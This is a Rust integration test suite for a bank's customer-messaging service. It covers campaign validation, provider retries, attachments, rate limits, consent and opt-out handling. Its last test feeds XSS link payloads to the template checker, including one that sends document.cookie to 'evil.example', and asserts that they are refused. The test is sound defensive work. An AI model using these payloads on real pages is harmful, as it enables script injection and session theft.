            .extend(extra.as_object().unwrap().clone());
        body
    };
    let nothing_queued = || async {
        assert_eq!(ctx.deps.queues.sends.depth().await.unwrap().visible, 0);
    };

    // A misspelt key would have widened the audience to everyone: 422 naming it.
    let (status, body) = ctx
        .admin_call(
            "POST",
            "/v1/campaigns",
            Some(campaign(json!({"filters": {"lifecyle": "new"}}))),
        )
        .await;
    assert_eq!(status, 422, "{body}");
    assert!(
        body["error"]["fields"]["filters.lifecyle"].is_string(),
        "{body}"
    );
    nothing_queued().await;
    // No filter, or an empty one, is not "everyone" unless said so.
    for extra in [json!({}), json!({"filters": {}}), json!({"filters": null})] {
        let (status, body) = ctx
            .admin_call("POST", "/v1/campaigns", Some(campaign(extra.clone())))
            .await;
        assert_eq!(status, 422, "{extra}: {body}");
        assert!(body["error"]["fields"]["audience"].is_string(), "{body}");
    }
    let (status, body) = ctx
        .admin_call(
            "POST",
            "/v1/campaigns",
            Some(campaign(
                json!({"audience": "all", "filters": {"source": "assigned"}}),
            )),
        )
        .await;
    assert_eq!(status, 422, "both a filter and everyone: {body}");
    nothing_queued().await;

    // The preview counts who would receive it, and queues nothing.
    let (status, preview) = ctx
        .admin_call(
            "POST",
            "/v1/campaigns",
            Some(campaign(json!({"audience": "all", "dry_run": true}))),
        )
        .await;
    assert_eq!(status, 200, "{preview}");
    assert_eq!(
        (preview["dry_run"].as_bool(), preview["audience"].as_u64()),
        (Some(true), Some(22)),
        "{preview}"
    );
    nothing_queued().await;
    let stored = ctx
        .deps
        .store
        .query(nhip_ports::store::Query::partition(
            nhip_ports::store::Index::Gsi2,
            nhip_core::keys::CAMPAIGNS,
        ))
        .await
        .unwrap();
    assert!(stored.items.is_empty(), "a dry run stores no campaign");

    // Sent for real: each of the 22 gets it once.
    let (status, sent) = ctx
        .admin_call(
            "POST",
            "/v1/campaigns",
            Some(campaign(json!({"audience": "all"}))),
        )
        .await;
    assert_eq!(status, 202, "{sent}");
    assert_eq!(sent["queued"], 22);
    ctx.drain("sends").await;
    for customer in &customers {
        let (_, messages) = ctx
            .admin_call("GET", &format!("/v1/customers/{customer}/messages"), None)
            .await;
        let statuses: Vec<_> = messages["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m["status"].as_str().unwrap().to_owned())
            .collect();
        assert_eq!(statuses, ["sent"], "{customer}");
    }
}

/// A channel that fails its first sends the way it is told to, then takes everything.
struct Flaky {
    failures: std::sync::Mutex<Vec<&'static str>>,
    taken: std::sync::atomic::AtomicUsize,
}

#[async_trait::async_trait]
impl nhip_ports::Channel for Flaky {
    fn name(&self) -> &'static str {
        "flaky"
    }

    async fn send(
        &self,
        envelope: &nhip_ports::Envelope,
    ) -> Result<nhip_ports::Accepted, nhip_ports::ChannelError> {
        use nhip_ports::ChannelError;
        let next = self.failures.lock().unwrap().pop();
        match next {
            Some("not_sent") => Err(ChannelError::NotSent {
                source: "connection refused".into(),
            }),
            Some("lost") => Err(ChannelError::Unavailable {
                source: "timed out waiting for the answer".into(),
            }),
            Some("throttled") => Err(ChannelError::Throttled {
                source: "slow down".into(),
            }),
            _ => {
                self.taken.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                Ok(nhip_ports::Accepted {
                    provider_id: format!("flaky-{}", envelope.message_id),
                })
            }
        }
    }
}

#[tokio::test]
async fn a_provider_that_did_not_take_a_message_is_retried_and_a_lost_answer_is_never_resent() {
    let ctx = Ctx::new();
    let customer = ctx.customer("0916222333", "khoa@example.vn", &[]).await;
    ctx.template("nhac-ky", sms("Nhắc kỳ trả góp.")).await;
    let flaky = Arc::new(Flaky {
        // Popped from the end: the first send is throttled, the second never connects.
        failures: std::sync::Mutex::new(vec!["not_sent", "throttled"]),
        taken: Default::default(),
    });
    let mut deps = (*ctx.deps).clone();
    deps.channels = nhip_core::Channels::uniform(flaky.clone());
    let deps = Arc::new(deps);

    let send = request("flaky#1", &customer, "sms", "nhac-ky", SendPurpose::Care);
    for attempt in 0..2 {
        let error = pipeline::process(&deps, &send).await.unwrap_err();
        assert!(
            matches!(error, pipeline::PipelineError::Retry(_)),
            "attempt {attempt}: {error}"
        );
        assert_eq!(
            ctx.message(&send.message_id()).await.status,
            Status::Processing
        );
    }
    let outcome = pipeline::process(&deps, &send).await.unwrap();
    assert_eq!(outcome.status, Status::Sent);
    assert_eq!(flaky.taken.load(std::sync::atomic::Ordering::SeqCst), 1);

    // The answer to this one is lost: it may have gone, so it is never sent again.
    flaky.failures.lock().unwrap().push("lost");
    let lost = request("flaky#2", &customer, "sms", "nhac-ky", SendPurpose::Care);
    let outcome = pipeline::process(&deps, &lost).await.unwrap();
    assert_eq!(
        (outcome.status, outcome.reason.as_deref()),
        (Status::Uncertain, Some("provider_answer_lost"))
    );
    for _ in 0..3 {
        assert!(pipeline::process(&deps, &lost).await.unwrap().duplicate);
    }
    assert_eq!(flaky.taken.load(std::sync::atomic::Ordering::SeqCst), 1);
    assert!(
        ctx.timeline_types(&customer)
            .await
            .contains(&"message.uncertain".to_owned())
    );
}

#[tokio::test]
async fn attachments_are_uploaded_once_and_sent_with_the_e_mail() {
    let ctx = Ctx::new();
    let customer = ctx.customer("0917333444", "hanh@example.vn", &[]).await;
    let pdf = b"%PDF-1.4 bieu phi the tin dung 2026".to_vec();
    let Answer { status, bytes, .. } = ctx
        .send(
            crate::support::request(
                "POST",
                "/v1/attachments?filename=Bi%E1%BB%83u%20ph%C3%AD%20th%E1%BA%BB%202026.pdf",
                Some(&ctx.admin()),
            )
            .header(header::CONTENT_TYPE, "application/pdf")
            .body(Body::from(pdf.clone()))
            .unwrap(),
        )
        .await;
    let attachment: Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(status, 201, "{attachment}");
    assert_eq!(attachment["filename"], "Biểu phí thẻ 2026.pdf");
    assert!(
        attachment["blob_key"]
            .as_str()
            .unwrap()
            .ends_with("/bieu-phi-the-2026.pdf"),
        "{attachment}"
    );
    ctx.template(
        "bieu-phi",
        json!({"channel": "email", "subject": "Biểu phí thẻ", "html": "<p>Đính kèm biểu phí.</p>", "text": "Đính kèm biểu phí.",
               "attachments": [{"filename": attachment["filename"], "content_type": "application/pdf", "blob_key": attachment["blob_key"]}]}),
    )
    .await;
    let send = request("fees#1", &customer, "email", "bieu-phi", SendPurpose::Care);
    assert_eq!(
        pipeline::process(&ctx.deps, &send).await.unwrap().status,
        Status::Sent
    );
    let sent = ctx.sent_for(&send.message_id()).await;
    let nhip_ports::channel::Outgoing::Email(mail) = &sent[0].envelope.outgoing else {
        panic!("an e-mail");
    };
    assert_eq!(mail.attachments.len(), 1);
    assert_eq!(mail.attachments[0].bytes, pdf);
    // The message keeps what was sent without the file's bytes (they stay in the blob store).
    let stored = ctx.message(&send.message_id()).await.content.unwrap();
    assert_eq!(stored["attachments"][0]["size"], pdf.len());
    assert!(stored["attachments"][0].get("bytes").is_none());
}

#[tokio::test]
async fn zns_advertising_needs_a_promotion_template_and_each_channel_keeps_its_rate() {
    let ctx = Ctx::new();
    let customer = ctx
        .customer(
            "0918444555",
            "lam@example.vn",
            &["zns:marketing", "sms:marketing"],
        )
        .await;
    ctx.template(
        "zns-cskh",
        json!({"channel": "zns", "template_id": "240101", "tag": "customer_care", "params": {"ten": "{{ customer.given_name }}"}}),
    )
    .await;
    let outcome = pipeline::process(
        &ctx.deps,
        &request(
            "zns#ad",
            &customer,
            "zns",
            "zns-cskh",
            SendPurpose::Marketing,
        ),
    )
    .await
    .unwrap();
    assert_eq!(
        (outcome.status, outcome.reason.as_deref()),
        (Status::Failed, Some("zns_tag_not_promotion"))
    );
    let outcome = pipeline::process(
        &ctx.deps,
        &request("zns#care", &customer, "zns", "zns-cskh", SendPurpose::Care),
    )
    .await
    .unwrap();
    assert_eq!(outcome.status, Status::Sent);

    // One SMS a minute: the second waits for the next minute, then goes.
    let mut settings = ctx.deps.settings.clone();
    settings.messaging.send_rates.insert("sms".into(), 1);
    let mut deps = (*ctx.deps).clone();
    deps.settings = settings;
    let deps = Arc::new(deps);
    ctx.template("cskh-sms", sms("Cảm ơn Quý khách.")).await;
    let first = pipeline::process(
        &deps,
        &request("rate#1", &customer, "sms", "cskh-sms", SendPurpose::Care),
    )
    .await
    .unwrap();
    let second = pipeline::process(
        &deps,
        &request("rate#2", &customer, "sms", "cskh-sms", SendPurpose::Care),
    )
    .await
    .unwrap();
    assert_eq!(first.status, Status::Sent);
    assert_eq!(
        (second.status, second.reason.as_deref()),
        (Status::Deferred, Some("rate_limited"))
    );
    ctx.clock().advance(Duration::seconds(61));
    nhip_api::tick::tick(&deps).await.unwrap();
    assert_eq!(drain(&deps, "sends").await, 1, "one send released");
    assert_eq!(ctx.message(&second.message_id).await.status, Status::Sent);
}

#[tokio::test]
async fn a_customers_agreement_replaces_the_limits_for_them_only() {
    let ctx = Ctx::new();
    let agreed = ctx
        .customer("0919555666", "quang@example.vn", &["email:marketing"])
        .await;
    let (_, current) = ctx
        .admin_call("GET", &format!("/v1/customers/{agreed}"), None)
        .await;
    let (status, body) = ctx
        .admin_call(
            "PUT",
            &format!("/v1/customers/{agreed}/advertising-agreement"),
            Some(json!({"version": current["version"], "agreement": {
                "limits_per_24h": {"email": 5}, "agreed_at": "2026-11-20T03:00:00Z",
                "evidence": "Phiếu đăng ký nhận bản tin hằng ngày, ký ngày 20/11/2026"}})),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    ctx.template("ban-tin-ngay", email()).await;
    let mut statuses = Vec::new();
    for i in 0..6 {
        let send = request(
            &format!("daily#{i}"),
            &agreed,
            "email",
            "ban-tin-ngay",
            SendPurpose::Marketing,
        );
        statuses.push(pipeline::process(&ctx.deps, &send).await.unwrap().status);
    }
    assert_eq!(
        statuses,
        [
            Status::Sent,
            Status::Sent,
            Status::Sent,
            Status::Sent,
            Status::Sent,
            Status::Capped
        ]
    );
}

#[tokio::test]
async fn a_consent_request_goes_once_ever_and_never_to_a_refusal() {
    let ctx = Ctx::new();
    let customer = ctx.customer("0920666777", "son@example.vn", &[]).await;
    ctx.template(
        "moi-dang-ky",
        sms("Quý khách có muốn nhận ưu đãi qua SMS? Trả lời DK để đồng ý."),
    )
    .await;
    let first = pipeline::process(
        &ctx.deps,
        &request(
            "ask#1",
            &customer,
            "sms",
            "moi-dang-ky",
            SendPurpose::ConsentRequest,
        ),
    )
    .await
    .unwrap();
    assert_eq!(first.status, Status::Sent);
    let sent = ctx.sent_for(&first.message_id).await;
    let nhip_ports::channel::Outgoing::Sms(text) = &sent[0].envelope.outgoing else {
        panic!("an SMS");
    };
    assert!(text.text.starts_with("[QC] "), "{}", text.text);
    let again = pipeline::process(
        &ctx.deps,
        &request(
            "ask#2",
            &customer,
            "sms",
            "moi-dang-ky",
            SendPurpose::ConsentRequest,
        ),
    )
    .await
    .unwrap();
    assert_eq!(
        (again.status, again.reason.as_deref()),
        (Status::NoConsent, Some("consent_request_already_sent"))
    );
    // The same request delivered again is the same message, not a second request.
    assert!(
        pipeline::process(
            &ctx.deps,
            &request(
                "ask#1",
                &customer,
                "sms",
                "moi-dang-ky",
                SendPurpose::ConsentRequest
            )
        )
        .await
        .unwrap()
        .duplicate
    );
    assert_eq!(ctx.sent_for(&first.message_id).await.len(), 1);
}

#[tokio::test]
async fn zalo_delivery_callbacks_are_verified_and_staff_can_enter_a_refusal() {
    let ctx = Ctx::new();
    let mut deps = (*ctx.deps).clone();
    deps.settings.messaging.zalo_app_id = Some("4321".into());
    deps.settings.messaging.zalo_secret = Some("oa-secret-key".into());
    let deps = Arc::new(deps);
    let customer = ctx
        .customer("0921777888", "tam@example.vn", &["sms:marketing"])
        .await;
    ctx.template(
        "zns-nhac",
        json!({"channel": "zns", "template_id": "250301", "tag": "transaction", "params": {"ten": "{{ customer.given_name }}"}}),
    )
    .await;
    let send = request("zns#1", &customer, "zns", "zns-nhac", SendPurpose::Care);
    pipeline::process(&deps, &send).await.unwrap();
    let provider_id = ctx.sent_for(&send.message_id()).await[0]
        .provider_id
        .clone();
    let body = json!({
        "event_name": "user_received_message", "app_id": "4321", "timestamp": "1795411200000",
        "message": {"msg_id": provider_id, "delivery_time": "1795411200000", "tracking_id": send.message_id()},
    })
    .to_string();
    let post = |signature: String| {
        Request::builder()
            .method("POST")
            .uri("/v1/tracking/zns")
            .header(header::CONTENT_TYPE, "application/json")
            .header("x-zevent-signature", signature)
            .body(Body::from(body.clone()))
            .unwrap()
    };
    let forged = send_to(deps.clone(), post("mac=00".into())).await;
    assert_eq!(forged.status, 403);
    assert!(ctx.message(&send.message_id()).await.engagement.is_empty());
    let signature = nhip_messaging::zalo::sign("4321", "oa-secret-key", &body, "1795411200000");
    let genuine = send_to(deps.clone(), post(signature)).await;
    assert_eq!(genuine.status, 200);
    assert!(
        ctx.message(&send.message_id())
            .await
            .engagement
            .contains_key("delivered")
    );

    // On a call the customer asks to stop advertising by SMS: staff enter it.
    let (status, body) = ctx
        .admin_call(
            "POST",
            &format!("/v1/customers/{customer}/refusals"),
            Some(json!({"channel": "sms", "via": "call"})),
        )
        .await;
    assert_eq!(
        (status, &body["outcome"]),
        (200, &json!("stopped")),
        "{body}"
    );
    let (_, again) = ctx
        .admin_call(
            "POST",
            &format!("/v1/customers/{customer}/refusals"),
            Some(json!({"channel": "sms", "via": "call"})),
        )
        .await;
    assert_eq!(again["outcome"], "already_stopped");
    ctx.drain("sends").await;
    let confirmations = ctx.outbox()
        .list(100, None)
        .await
        .unwrap()
        .into_iter()
        .filter(|e| matches!(&e.envelope.outgoing, nhip_ports::channel::Outgoing::Sms(m) if m.text.contains("từ chối nhận quảng cáo qua SMS")))
        .count();
    assert_eq!(confirmations, 1);
    let (_, totals) = ctx.admin_call("GET", "/v1/messaging/stats", None).await;
    assert_eq!(totals["counts"]["sent"], 2, "{totals}");
    assert_eq!(totals["counts"]["delivered"], 1, "{totals}");
}

/// A template's links may use http, https, mailto and tel (and, in a push deep link, the app's
/// own schemes): `javascript:`, `data:` and their disguises are refused when the template is
/// saved, and a customer attribute rendered into an `href` is checked again when the message is
/// rendered, so one customer's hostile data never becomes a link.
#[tokio::test]
async fn templates_refuse_script_and_data_links_at_save_and_at_render() {
    let mut settings = nhip_core::Settings::default();
    settings.messaging.link_secret = Some(LINK_SECRET.to_vec());
    settings.messaging.app_link_schemes = vec!["nhipbank".into()];
    let ctx = Ctx {
        api: Api::with_settings(settings),
    };
    let save = |code: &str, content: Value| {
        let body = json!({"code": code, "name": code, "content": content, "publish": true});
        ctx.admin_call("POST", "/v1/templates", Some(body))
    };
    let html = |href: &str| {
        json!({"channel": "email", "subject": "Ưu đãi", "text": "Ưu đãi",
               "html": format!("<p><a href=\"{href}\">Xem</a></p>")})
    };
    for (i, href) in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;vascript&#58;alert(1)",
        "java\tscript:alert(1)",
        " data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
    ]
    .into_iter()
    .enumerate()
    {
        let (status, body) = save(&format!("xau-{i}"), html(href)).await;
        assert_eq!(status, 422, "{href:?}: {body}");
        assert!(
            body["error"]["fields"]["content.html"]
                .as_str()
                .is_some_and(|m| m.contains("không được phép")),
            "{href:?}: {body}"
        );
    }
    for (i, href) in [
        "https://abc.vn/uu-dai",
        "mailto:cskh@abc.vn",
        "tel:19001234",
        "#top",
    ]
    .into_iter()
    .enumerate()
    {
        let (status, body) = save(&format!("tot-{i}"), html(href)).await;
        assert_eq!(status, 201, "{href}: {body}");
    }
    let push = |link: &str| json!({"channel": "push", "title": "Thẻ", "body": "Kích hoạt", "deep_link": link});
    let (status, body) = save("push-xau", push("javascript:alert(1)")).await;
    assert_eq!(status, 422, "{body}");
    assert!(
        body["error"]["fields"]["content.deep_link"].is_string(),
        "{body}"
    );
    let (status, body) = save("push-la", push("otherapp://x")).await;
    assert_eq!(status, 422, "a scheme not configured: {body}");
    let (status, body) = save("push-tot", push("nhipbank://the/kich-hoat")).await;
    assert_eq!(status, 201, "{body}");

    // A link from customer data: saved (the sample is harmless), checked per message.
    let (status, body) = save(
        "trang-ca-nhan",
        html("{{ customer.attributes.trang_ca_nhan }}"),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let mut customers = Vec::new();
    for (phone, link) in [
        (
            "0912000001",
            "javascript:fetch('//evil.example/'+document.cookie)",
        ),
        // Rendered data is escaped (`&amp;#106;…`): the browser reads this one as the text it
        // is, a harmless relative link, so it is sent.
        ("0912000002", "&#106;avascript:alert(1)"),
        ("0912000003", "https://abc.vn/kh/3"),
    ] {
        let (status, body) = ctx
            .admin_call(
                "POST",
                "/v1/customers",
                Some(json!({"full_name": "Phạm Văn Long", "phones": [phone],
                            "emails": [format!("kh{phone}@example.vn")], "source": "assigned",
                            "consents": ["email:care"],
                            "attributes": {"trang_ca_nhan": link}})),
            )
            .await;
        assert_eq!(status, 201, "{body}");
        customers.push(body["id"].as_str().unwrap().to_owned());
    }
    for (i, customer) in customers.iter().enumerate() {
        let outcome = pipeline::process(
            &ctx.deps,
            &request(
                &format!("tcn#{i}"),
                customer,
                "email",
                "trang-ca-nhan",
                SendPurpose::Care,
            ),
        )
        .await
        .unwrap();
        let sent = ctx.sent_for(&outcome.message_id).await;
        if i == 0 {
            assert_eq!(outcome.status, Status::Failed, "{customer}");
            assert!(sent.is_empty(), "nothing sent to {customer}");
            let message = ctx.message(&outcome.message_id).await;
            assert_eq!(
                message.reason.as_deref(),
                Some("unsafe_link"),
                "{message:?}"
            );
        } else {
            assert_eq!(outcome.status, Status::Sent);
            assert_eq!(sent.len(), 1);
            let html = serde_json::to_string(&sent[0].envelope).unwrap();
            if i == 1 {
                assert!(html.contains("&amp;#106;avascript"), "{html}");
            }
        }
    }
}
